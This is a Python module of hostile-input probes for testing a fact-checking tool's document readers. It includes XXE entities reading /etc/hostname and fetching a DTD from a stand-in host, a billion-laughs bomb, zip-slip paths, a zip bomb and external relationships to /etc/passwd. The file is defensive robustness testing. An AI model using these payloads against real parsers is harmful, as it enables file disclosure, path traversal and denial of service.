"""Hostile drafts, built at any size: the probes of tests/robustness/test_hostile_drafts.py and
benchmarks/hostile_inputs.py (SECURITY.md, "Probes: Drafts").

Each probe is a function of a size ``n`` giving the bytes of a file, with the file name its
format is read by. ``base`` is the size the linearity test starts from (about a tenth of a second
on one core); the test reads it at ``base`` and ``2 * base``, the benchmark at 1x, 2x and 4x.
"""
from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

CLAIM = "Turkey has taken in about 3.7 million Syrian refugees since the war started."

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" Target="word/document.xml"/></Relationships>')
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Default Extension="png" ContentType="image/png"/>'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'wordprocessingml.document.main+xml"/></Types>')


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def document_xml(body: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
            f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>')


def docx(body: str, *, doctype: str = "", doc_rels: str | None = None,
         extra: dict[str, bytes | str] | None = None) -> bytes:
    """A .docx made by hand (so every part can be hostile): its body XML, a DOCTYPE before the
    root, the document's relationships and any further entries (names as given, ``../`` too)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", PKG_RELS)
        z.writestr("word/document.xml", document_xml(body, doctype))
        if doc_rels is not None:
            z.writestr("word/_rels/document.xml.rels", doc_rels)
        for name, data in (extra or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


def relationships(*rels: tuple[str, str, str, str | None]) -> str:
    """(id, type suffix, target, target mode) -> a .rels part."""
    out = []
    for rid, kind, target, mode in rels:
        m = f' TargetMode="{mode}"' if mode else ""
        out.append(f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                   f'relationships/{kind}" Target="{target}"{m}/>')
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(out) + "</Relationships>")


@dataclass(frozen=True)
class Probe:
    name: str
    suffix: str
    build: Callable[[int], bytes]
    #: The size the linearity test starts from.
    base: int
    #: What the reader must answer: "report" (checked), "error" (refused, one line), "either".
    expect: str = "report"
    #: What ``n`` counts, for the benchmark's table.
    unit: str = "units"


def _utf8(s: str) -> bytes:
    return s.encode("utf-8")


# -- Markdown ------------------------------------------------------------------------------------
def md_nested_lists(n: int) -> bytes:
    """n list markers opening n nested lists on one line, then the claim; then n lines nested by
    one more marker each (a staircase)."""
    return _utf8("- " * n + CLAIM + "\n\n" + "".join("- " * (i % 50 + 1) + "item 7\n" for i in range(n)))


def md_nested_quotes(n: int) -> bytes:
    return _utf8("> " * n + CLAIM + "\n\n" + ">" * n + " 12 percent\n")


def md_backticks(n: int) -> bytes:
    """A run of n backticks, then runs of every length up to a few hundred that never close
    (the case that makes a naive code-span search quadratic), then the claim."""
    runs = []
    total, k = 0, 1
    while total < n:
        runs.append("`" * k + " 4 ")
        total += k
        k = k % 400 + 1
    return _utf8("Text " + "`" * n + " more\n\n" + "Text " + "".join(runs) + "\n\n" + CLAIM + "\n")


def md_table(n: int) -> bytes:
    """A table of n rows of figures, and one row of n/10 columns."""
    rows = "".join(f"| {i} | about {i * 7} million | {i % 100}% |\n" for i in range(n))
    wide = max(1, n // 10)
    return _utf8(CLAIM + "\n\n| a | b | c |\n|---|---|---|\n" + rows + "\n\n"
                 + "|" + "|".join(f" {i} " for i in range(wide)) + "|\n" + "|" + "---|" * wide + "\n")


# -- HTML ----------------------------------------------------------------------------------------
def html_entities(n: int) -> bytes:
    ents = "&amp;&#51;&#x37;&nbsp;&unknown;&" * (n // 6)
    return _utf8(f"<html><body><p>{CLAIM}</p><p>{ents}</p><p>{'&#8203;' * (n // 6)}3.7 million</p></body></html>")


def html_huge_attributes(n: int) -> bytes:
    value = "x" * n
    return _utf8(f'<html><body><p title="{value}" data-a=\'{value}\'>{CLAIM}</p>'
                 f"<p class={value}>12 percent</p><p title=\"{value}>never closed</p></body></html>")


def html_malformed(n: int) -> bytes:
    junk = "<p<p <a href=' </ <!-- x --!> <![CDATA[ <?php ?> </p </div> <<>> <b><i></b></i> " * (n // 80)
    return _utf8(f"<html><body><p>{CLAIM}</p>{junk}<p>About 12 percent.<!-- never closed <p>4 million")


def html_lying_charset(n: int) -> bytes:
    """Latin-1 bytes under a page that says it is UTF-16 (which a page read as ASCII cannot be)."""
    body = ("<p>Les r\u00e9fugi\u00e9s syriens sont 3,6 millions en Turquie.</p>" * max(1, n // 60))
    return ('<html><head><meta charset="utf-16"></head><body>' + body + "</body></html>").encode("latin-1")


def html_lying_charset_utf8(n: int) -> bytes:
    """UTF-8 bytes under a page that says it is windows-1254: the bytes decide (valid UTF-8 wins)."""
    body = "<p>T\u00fcrkiye'de 3,6 milyon Suriyeli m\u00fclteci var; " + CLAIM + "</p>"
    return _utf8('<html><head><meta charset="windows-1254"></head><body>' + body * max(1, n // 150)
                 + "</body></html>")


# -- DOCX ----------------------------------------------------------------------------------------
def docx_xxe(n: int, secret_path: str = "/etc/hostname") -> bytes:
    doctype = (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{secret_path}">'
               '<!ENTITY net SYSTEM "http://203.0.113.9/x.dtd">]>')
    body = paragraph(CLAIM) + paragraph("secret: &xxe; net: &net;") * max(1, n)
    return docx(body, doctype=doctype)


def docx_billion_laughs(n: int) -> bytes:
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = "<!DOCTYPE w:document [" + "".join(ents) + "]>"
    body = paragraph(CLAIM) + paragraph("&lol9;") * max(1, n)
    return docx(body, doctype=doctype)


def docx_parameter_entities(n: int) -> bytes:
    doctype = ('<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;'
               '<!ENTITY % file SYSTEM "file:///etc/hostname">]>')
    return docx(paragraph(CLAIM) * max(1, n), doctype=doctype)


def docx_zip_slip(n: int) -> bytes:
    extra: dict[str, bytes | str] = {"../../factcheck_zip_slip.txt": "pwned",
                                     "/tmp/factcheck_zip_slip_abs.txt": "pwned",
                                     "word/../../factcheck_zip_slip_2.txt": "pwned"}
    return docx(paragraph(CLAIM) * max(1, n), extra=extra)


def docx_huge_part(n: int) -> bytes:
    """A body of n paragraphs, and a shared part (styles) padded to n * 100 bytes."""
    styles = (f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{W_NS}">'
              + "<!-- pad -->" * (n * 100 // 12) + "</w:styles>")
    body = "".join(paragraph(f"Paragraph {i}: about {i} million.") for i in range(n))
    return docx(paragraph(CLAIM) + body, extra={"word/styles.xml": styles})


def docx_media_bomb(n: int) -> bytes:
    """A picture part of n MB of zeros, deflated to almost nothing (a zip bomb outside the XML)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", PKG_RELS)
        z.writestr("word/document.xml", document_xml(paragraph(CLAIM)))
        z.writestr("word/_rels/document.xml.rels", relationships(("rId9", "image", "media/image1.png", None)))
        with z.open("word/media/image1.png", "w", force_zip64=True) as w:
            block = b"\0" * (1024 * 1024)
            for _ in range(n):
                w.write(block)
    return buf.getvalue()


def docx_outside_relationships(n: int) -> bytes:
    rels = relationships(("rId1", "image", "../../../../etc/passwd", None),
                         ("rId2", "hyperlink", "http://203.0.113.9/track.png", "External"),
                         ("rId3", "image", "http://203.0.113.9/pixel.png", "External"),
                         ("rId4", "attachedTemplate", "file:///etc/passwd", "External"),
                         ("rId5", "styles", "/../styles.xml", None),
                         ("rId6", "oleObject", "\\\\203.0.113.9\\share\\x.bin", "External"))
    body = paragraph(CLAIM) * max(1, n)
    return docx(body, doc_rels=rels)


# -- Plain text ----------------------------------------------------------------------------------
def text_invisible_in_numbers(n: int) -> bytes:
    line = ("Turkey has taken in about 3\u200b.7 million Syrian refugees; prices rose 1\u200d2\u2060% and "
            "\u200f4.5\u200f million fled, \u2066\u00a320\u2069 a day, 1\u00ad200 tents.\n")
    return _utf8(line * max(1, n // len(line)))


def text_other_digits(n: int) -> bytes:
    line = ("Turkey has taken in about \u0663\u066b\u0667 million Syrian refugees, "
            "\u0661\u0662\u066c\u0665\u0660\u0660 tents and \uff13\uff0e\uff17 million people; "
            "inflation was \u06f1\u06f2\u066a.\n")
    return _utf8(line * max(1, n // len(line)))


def text_huge_numbers(n: int) -> bytes:
    line = (f"Turkey spent 1e308 million dollars and {'9' * 400} refugees, from 1e308 to 1.7e308 "
            "people, 1e-400 percent, 0x1p1023 tonnes.\n")
    return _utf8(line * max(1, n // len(line)))


PROBES: tuple[Probe, ...] = (
    Probe("markdown: nested lists", ".md", md_nested_lists, 10_000, "error", unit="levels"),
    Probe("markdown: nested quotes", ".md", md_nested_quotes, 50_000, "error", unit="levels"),
    Probe("markdown: backticks", ".md", md_backticks, 50_000, unit="backticks"),
    Probe("markdown: giant table", ".md", md_table, 300, unit="rows"),
    Probe("html: entities", ".html", html_entities, 6_000, unit="entities"),
    Probe("html: huge attributes", ".html", html_huge_attributes, 1_000_000, unit="bytes"),
    Probe("html: malformed tags", ".html", html_malformed, 100_000, unit="bytes"),
    Probe("html: charset that lies (utf-16 on Latin-1)", ".html", html_lying_charset, 100_000, "error", "bytes"),
    Probe("html: charset that lies (windows-1254 on UTF-8)", ".html", html_lying_charset_utf8, 6_000,
          unit="bytes"),
    Probe("docx: external entities (XXE)", ".docx", docx_xxe, 100, unit="paragraphs"),
    Probe("docx: billion laughs", ".docx", docx_billion_laughs, 100, "error", unit="paragraphs"),
    Probe("docx: parameter entities", ".docx", docx_parameter_entities, 80, unit="paragraphs"),
    Probe("docx: zip entries named ../", ".docx", docx_zip_slip, 80, unit="paragraphs"),
    Probe("docx: huge shared part", ".docx", docx_huge_part, 150, unit="paragraphs"),
    Probe("docx: relationships outside the package", ".docx", docx_outside_relationships, 100, "error",
          unit="paragraphs"),
    Probe("text: zero-width and bidi marks in numbers", ".txt", text_invisible_in_numbers, 5_000, unit="bytes"),
    Probe("text: Arabic-Indic and full-width digits", ".txt", text_other_digits, 5_000, unit="bytes"),
    Probe("text: 1e308 and 400-digit numbers", ".txt", text_huge_numbers, 10_000, unit="bytes"),
)
